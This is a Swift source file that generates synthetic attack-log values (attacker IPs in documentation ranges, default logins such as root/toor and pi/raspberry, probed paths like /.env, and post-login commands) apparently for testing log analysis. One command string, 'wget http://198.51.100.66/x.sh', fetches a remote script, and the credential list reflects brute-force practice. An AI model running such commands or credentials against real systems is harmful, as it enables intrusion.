import Glibc

/// What fills the holes of lines: an attacker for each visit, and the time. Nothing in it needs escaping anywhere.
struct MadeUpValues {
  private static let networks = ["192.0.2.", "198.51.100.", "203.0.113."]
  private static let users = ["root", "admin", "ubuntu", "oracle", "postgres", "test", "pi", "git"]
  private static let passwords = [
    "123456", "admin", "password", "root", "raspberry", "toor", "qwerty", "letmein", "P@ssw0rd", "changeme",
  ]
  private static let commands = [
    "uname -a", "cat /proc/cpuinfo", "id", "wget http://198.51.100.66/x.sh", "free -m", "ls -la /tmp", "w",
  ]
  private static let paths = ["/", "/.env", "/wp-login.php", "/.git/config", "/admin", "/vpn/index.html"]
  private static let agents = [
    "curl/8.5.0", "Mozilla/5.0 (X11; Linux x86_64)", "zgrab/0.x", "Go-http-client/1.1",
  ]
  private static let clients = ["SSH-2.0-Go", "SSH-2.0-libssh2_1.11.0", "SSH-2.0-PUTTY"]
  private static let moments: [(VisitLine.Hole, format: String)] = [
    (.date, "%Y-%m-%d"), (.time, "%H:%M:%S"), (.slashed, "%Y/%m/%d"), (.monthday, "%m%d"),
    (.rfc822, "%d %b %y %H:%M UTC"),
  ]

  private(set) var values: [VisitLine.Hole: [UInt8]] = [:]
  private let seed: UInt64
  private var second = Int.min

  /// - Parameter seed: the same seed makes the same visits.
  init(seed: UInt64) {
    self.seed = seed
  }

  /// Makes the attacker of a visit up.
  mutating func begin(visit: Int) {
    var bits = seed &+ UInt64(visit)
    // The first of a list come most often, so that a table of the most frequent has an order.
    func next(below count: Int) -> Int {
      let some = Int(Self.mix(&bits) % UInt64(count))
      return min(some, Int(Self.mix(&bits) % UInt64(count)))
    }
    func pick(_ list: [String]) -> String { list[next(below: list.count)] }
    set(.attacker, pick(Self.networks) + String(1 + next(below: 40)))
    set(.port, String(1024 + Int(Self.mix(&bits) % 64_000)))
    set(.user, pick(Self.users))
    set(.password, pick(Self.passwords))
    set(.other, pick(Self.passwords))
    set(.command, pick(Self.commands))
    set(.path, pick(Self.paths))
    set(.agent, pick(Self.agents))
    set(.client, pick(Self.clients))
    set(.session, String((1 << 40) + Self.mix(&bits) % (1 << 40), radix: 16))
  }

  /// Sets the time, in nanoseconds since 1970.
  mutating func set(time: Int) {
    if time / 1_000_000_000 != second {
      second = time / 1_000_000_000
      for (hole, format) in Self.moments { set(hole, Self.text(of: second, format)) }
    }
    let micros = String(1_000_000 + time % 1_000_000_000 / 1_000).dropFirst()
    set(.micros, String(micros))
    set(.millis, String(micros.prefix(3)))
  }

  private mutating func set(_ hole: VisitLine.Hole, _ value: String) {
    values[hole] = Array(value.utf8)
  }

  /// A second since 1970, in UTC, as strftime(3) writes it.
  static func text(of second: Int, _ format: String) -> String {
    var moment = time_t(second)
    var parts = tm()
    gmtime_r(&moment, &parts)
    return withUnsafeTemporaryAllocation(of: CChar.self, capacity: 64) { buffer in
      let count = strftime(buffer.baseAddress, buffer.count, format, &parts)
      return String(decoding: buffer[..<count].lazy.map(UInt8.init(bitPattern:)), as: UTF8.self)
    }
  }

  /// The next of a sequence of random numbers: SplitMix64.
  private static func mix(_ state: inout UInt64) -> UInt64 {
    state &+= 0x9E37_79B9_7F4A_7C15
    var bits = state
    bits = (bits ^ (bits >> 30)) &* 0xBF58_476D_1CE4_E5B9
    bits = (bits ^ (bits >> 27)) &* 0x94D0_49BB_1331_11EB
    return bits ^ (bits >> 31)
  }
}
